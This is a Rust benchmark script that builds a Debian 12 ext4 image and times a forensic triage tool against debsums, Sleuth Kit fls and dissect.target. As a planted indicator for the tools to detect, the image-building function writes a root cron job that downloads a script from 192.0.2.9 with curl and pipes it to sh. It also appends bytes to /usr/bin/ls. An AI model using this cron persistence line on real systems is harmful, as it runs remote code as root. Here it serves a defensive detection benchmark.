//! `cargo xtask bench triage [--files N] [--runs N] [--dissect-runs N]`: `rescue triage` next to the peers that each do a
//! part of its work, on the same ext4 image, side by side in one run: `debsums -a -c --root` (package
//! verify only, on the image mounted read-only), Sleuth Kit's `fls -r -m /` (listing only) and
//! dissect.target's `users,cronjobs,services,suid_binaries,ssh.authorized_keys` plugins (the pinned
//! virtualenv under `target/cache`). The image is the Debian 12 debootstrap root (the tarball the
//! triage tests cache in `target/cache/debootstrap/`) plus N small files under `/srv/data` (default
//! 200 000), with a trojaned `/usr/bin/ls` and a planted cron job, made once by `mke2fs -d` and cached
//! under `target/cache/triage-bench/`. Wall time (median of N runs, default 3; dissect.target, which
//! takes minutes a run, `--dissect-runs`, default the same) and peak RSS
//! (`/usr/bin/time -v`), the load average before and after; prints a markdown table and writes it to
//! `target/bench/triage.md`. `rescue` is the binary `cargo xtask build` makes (no second release
//! build). Needs root (extracting the root with its owners, loop mounts).

use std::fs::{self, File};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Instant;

use anyhow::{Context, bail};

use crate::{deps, util};

struct Sample {
    secs: f64,
    rss_kib: u64,
}

/// Runs `program args` under `/usr/bin/time -v` with stdout to `stdout_to`; `ok` lists the exit codes
/// that mean it did its job (debsums exits 2 when it found changed files).
fn timed(program: &Path, args: &[&str], stdout_to: &Path, ok: &[i32]) -> anyhow::Result<Sample> {
    let mut c = Command::new("/usr/bin/time");
    c.arg("-v").arg(program).args(args);
    c.stdout(File::create(stdout_to).with_context(|| format!("creating {}", stdout_to.display()))?);
    c.stdin(Stdio::null()).stderr(Stdio::piped());
    let start = Instant::now();
    let out = c
        .output()
        .with_context(|| format!("starting `{}`", util::display(&c)))?;
    let secs = start.elapsed().as_secs_f64();
    let err = String::from_utf8_lossy(&out.stderr);
    if !out.status.code().is_some_and(|code| ok.contains(&code)) {
        bail!("`{}` failed ({}): {}", util::display(&c), out.status, err);
    }
    let rss_kib = err
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix("Maximum resident set size (kbytes):")
                .and_then(|v| v.trim().parse().ok())
        })
        .context("no peak RSS in /usr/bin/time's output")?;
    Ok(Sample { secs, rss_kib })
}

/// Median time; the largest peak RSS of the runs.
fn median(mut v: Vec<Sample>) -> Sample {
    v.sort_by(|a, b| a.secs.total_cmp(&b.secs));
    let rss = v.iter().map(|s| s.rss_kib).max().unwrap_or(0);
    let m = v.swap_remove(v.len() / 2);
    Sample {
        secs: m.secs,
        rss_kib: rss,
    }
}

fn load_average() -> String {
    fs::read_to_string("/proc/loadavg")
        .map(|l| l.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
        .unwrap_or_else(|_| "unknown".into())
}

/// The bench image: the debootstrap root, `files` empty files in directories of 1 000 under
/// `/srv/data`, `/usr/bin/ls` with bytes appended and a cron job fetching a script. Cached by the
/// tarball's name, the file count and this recipe's version.
fn image(tarball: &Path, files: u64) -> anyhow::Result<PathBuf> {
    let cache = util::project_root().join("target/cache/triage-bench");
    let stem = tarball
        .file_name()
        .and_then(|n| n.to_str())
        .and_then(|n| n.strip_suffix(".tar.zst"))
        .context("debootstrap tarball name")?;
    let img = cache.join(format!("{stem}-plus-{files}-files-v1.ext4"));
    if img.is_file() {
        return Ok(img);
    }
    fs::create_dir_all(&cache)?;
    let tmp = cache.join(format!(".building-{}", std::process::id()));
    let _ = fs::remove_dir_all(&tmp);
    let tree = tmp.join("tree");
    fs::create_dir_all(&tree)?;
    util::run(
        Command::new("tar")
            .args([
                "--zstd",
                "--numeric-owner",
                "--xattrs",
                "--xattrs-include=*",
                "-xpf",
            ])
            .arg(tarball)
            .arg("-C")
            .arg(&tree),
    )?;
    for i in 0..files {
        let dir = tree.join(format!("srv/data/d{:04}", i / 1000));
        if i % 1000 == 0 {
            fs::create_dir_all(&dir)?;
        }
        fs::write(dir.join(format!("f{i:07}")), b"")?;
    }
    let ls = tree.join("usr/bin/ls");
    let mut bytes = fs::read(&ls)?;
    bytes.extend_from_slice(b"trojaned");
    fs::write(&ls, bytes)?;
    fs::write(
        tree.join("etc/cron.d/sync-time"),
        "*/5 * * * * root curl -s http://192.0.2.9/a.sh | sh\n",
    )?;
    let part = tmp.join("img");
    util::run(
        Command::new("mke2fs")
            .args(["-q", "-t", "ext4", "-I", "256", "-N"])
            .arg((files + 100_000).to_string())
            .arg("-d")
            .arg(&tree)
            .arg(&part)
            .arg("3G"),
    )?;
    fs::rename(&part, &img)?;
    fs::remove_dir_all(&tmp)?;
    Ok(img)
}

/// The image attached to a read-only loop device and mounted `ro,noload,nodev,nosuid,noexec` (for
/// debsums, which needs a directory); detached on drop.
struct Mounted {
    dev: String,
    dir: PathBuf,
}

impl Mounted {
    fn new(img: &Path, dir: &Path) -> anyhow::Result<Mounted> {
        fs::create_dir_all(dir)?;
        let dev = util::output(
            Command::new("losetup")
                .args(["-f", "--show", "-r"])
                .arg(img),
        )?
        .trim()
        .to_owned();
        let m = Mounted {
            dev,
            dir: dir.to_owned(),
        };
        util::run(
            Command::new("mount")
                .args(["-t", "ext4", "-o", "ro,noload,nodev,nosuid,noexec"])
                .arg(&m.dev)
                .arg(dir),
        )?;
        Ok(m)
    }
}

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.dir).status();
        let _ = Command::new("losetup").args(["-d", &self.dev]).status();
    }
}

fn lines(p: &Path) -> anyhow::Result<usize> {
    Ok(fs::read_to_string(p)
        .with_context(|| format!("reading {}", p.display()))?
        .lines()
        .count())
}

pub fn run(args: &[String]) -> anyhow::Result<()> {
    let mut files = 200_000u64;
    let mut runs = 3usize;
    let mut dissect_runs = None;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--files" => files = it.next().context("--files N")?.parse()?,
            "--runs" => runs = it.next().context("--runs N")?.parse()?,
            "--dissect-runs" => {
                dissect_runs = Some(it.next().context("--dissect-runs N")?.parse::<usize>()?)
            }
            other => bail!("unknown option {other:?} (--files N, --runs N, --dissect-runs N)"),
        }
    }
    let dissect_runs = dissect_runs.unwrap_or(runs);
    if runs == 0 || dissect_runs == 0 {
        bail!("--runs and --dissect-runs must be at least 1");
    }
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        bail!("bench triage needs root (the root's owners, loop mounts)");
    }
    deps::ensure_packages(&[
        ("/usr/bin/time", "time"),
        ("fls", "sleuthkit"),
        ("debsums", "debsums"),
        ("debootstrap", "debootstrap"),
        ("zstd", "zstd"),
        ("mke2fs", "e2fsprogs"),
        ("losetup", "mount"),
    ])?;
    // The fixtures first (they need no compiler), then the release binary.
    let python = deps::ensure_dissect_target()?;
    // The Debian 12 root the triage tests and `repro --fresh-root` share (same name, same recipe).
    let tarball = crate::repro::debian12_tarball(&util::project_root())?;
    let img = image(&tarball, files)?;
    let root = util::project_root();
    // The very binary `cargo xtask build` makes (same target, flags and environment), so a bench
    // after a build recompiles nothing.
    let rescue = crate::build::build_rescue_binary(&crate::build::git_commit())?;
    let bench = root.join("target/bench");
    fs::create_dir_all(&bench)?;
    let mounted = Mounted::new(&img, &bench.join("triage-mnt"))?;
    let s = |p: &Path| p.to_string_lossy().into_owned();
    let (img_s, mnt_s) = (s(&img), s(&mounted.dir));
    let out = bench.join("triage-out");
    let out_s = s(&out);
    let dissect_plugins = "users,cronjobs,services,suid_binaries,ssh.authorized_keys";

    let load_before = load_average();
    let cpus = std::thread::available_parallelism().map_or(0, |n| n.get());
    // Warm the page cache with one listing.
    timed(
        Path::new("/usr/bin/fls"),
        &["-r", "-m", "/", &img_s],
        &bench.join("fls.body"),
        &[0],
    )?;
    let (mut ours, mut debsums, mut fls, mut dissect) = (vec![], vec![], vec![], vec![]);
    let start = Instant::now();
    for _ in 0..runs {
        let _ = fs::remove_dir_all(&out);
        ours.push(timed(
            &rescue,
            &["triage", &img_s, "--out", &out_s, "--json"],
            &bench.join("triage.json"),
            &[0, 3],
        )?);
        debsums.push(timed(
            Path::new("/usr/bin/debsums"),
            &["-a", "-c", "--root", &mnt_s],
            &bench.join("debsums.txt"),
            &[0, 2],
        )?);
        fls.push(timed(
            Path::new("/usr/bin/fls"),
            &["-r", "-m", "/", &img_s],
            &bench.join("fls.body"),
            &[0],
        )?);
        if dissect.len() == dissect_runs {
            continue;
        }
        dissect.push(timed(
            &python,
            &[
                "-m",
                "dissect.target.tools.query",
                "-j",
                "-f",
                dissect_plugins,
                &img_s,
            ],
            &bench.join("dissect.jsonl"),
            &[0],
        )?);
    }
    let whole = start.elapsed().as_secs_f64();
    let load_after = load_average();
    drop(mounted);

    // What each one reported, so the table says what was compared.
    let report: serde_json::Value = serde_json::from_slice(&fs::read(out.join("findings.json"))?)?;
    let findings = report["findings"].as_array().map_or(&[][..], Vec::as_slice);
    // The figure is that of the ext reader: a silent fall back to the mounted walk would time another path.
    let walker = report["roots"][0]["walker"].as_str().unwrap_or("(none)");
    if walker != "the ext reader" {
        bail!("triage listed the bench image with {walker}, not the ext reader");
    }
    // The package files each one says changed, as paths inside the root: they must be the same set.
    let triage_changed: std::collections::BTreeSet<String> = findings
        .iter()
        .filter(|f| {
            f["category"] == "package"
                && f["why"]
                    .as_str()
                    .is_some_and(|w| w.contains("changed since installation"))
        })
        .filter_map(|f| f["path"].as_str().map(str::to_owned))
        .collect();
    let changed_pkg = triage_changed.len();
    let walked = report["roots"][0]["entries_walked"].as_u64().unwrap_or(0);
    // debsums prints each changed file under the root it was given.
    let debsums_set: std::collections::BTreeSet<String> =
        fs::read_to_string(bench.join("debsums.txt"))?
            .lines()
            .map(|l| l.strip_prefix(mnt_s.as_str()).unwrap_or(l).to_owned())
            .collect();
    let debsums_changed = debsums_set.len();
    let fls_lines = lines(&bench.join("fls.body"))?;
    let dissect_records = fs::read_to_string(bench.join("dissect.jsonl"))?
        .lines()
        .filter(|l| {
            serde_json::from_str::<serde_json::Value>(l).is_ok_and(|r| r["_type"] == "record")
        })
        .count();
    if triage_changed != debsums_set || triage_changed.is_empty() {
        bail!(
            "triage and debsums disagree on the changed package files (the bench plants one): \
             triage {triage_changed:?}, debsums {debsums_set:?}; see {} and {}",
            out.join("findings.json").display(),
            bench.join("debsums.txt").display()
        );
    }

    let (ours, debsums, fls, dissect) =
        (median(ours), median(debsums), median(fls), median(dissect));
    let mib = |s: &Sample| s.rss_kib as f64 / 1024.0;
    let mut md = String::new();
    md.push_str(&format!(
        "`cargo xtask bench triage` ({}): the debootstrap Debian 12 root plus {files} empty files \
         ({walked} entries), a trojaned `/usr/bin/ls` and a planted cron job, in one ext4 image; \
         median of {runs} run(s) each (dissect.target: {dissect_runs}), side by side in one run ({whole:.0} s), warm page cache, \
         {cpus} CPUs, load average {load_before} before and {load_after} after (1, 5, 15 min).\n\n",
        chrono::Utc::now().format("%Y-%m-%d %H:%M UTC")
    ));
    md.push_str(
        "| command | what it does | wall s | peak RSS MiB | reported |\n|---|---|---:|---:|---|\n",
    );
    md.push_str(&format!(
        "| rescue triage IMAGE | loop mount ro,noload; every entry from the ext reader through every detector; verify every package file (found through the mount, read by inode from the image) | {:.2} | {:.1} | {} findings, {changed_pkg} changed package file(s) |\n",
        ours.secs,
        mib(&ours),
        findings.len()
    ));
    md.push_str(&format!(
        "| debsums -a -c --root MNT | verify package files (MD5) on the mounted image | {:.2} | {:.1} | {debsums_changed} changed file(s) |\n",
        debsums.secs,
        mib(&debsums)
    ));
    md.push_str(&format!(
        "| fls -r -m / IMAGE | list every entry (body file) | {:.2} | {:.1} | {fls_lines} lines |\n",
        fls.secs,
        mib(&fls)
    ));
    md.push_str(&format!(
        "| dissect.target {} target-query {dissect_plugins} | users, cron jobs, services, SUID binaries, authorized keys | {:.2} | {:.1} | {dissect_records} records |\n",
        deps::DISSECT_TARGET,
        dissect.secs,
        mib(&dissect)
    ));
    print!("{md}");
    fs::write(bench.join("triage.md"), &md)?;
    Ok(())
}
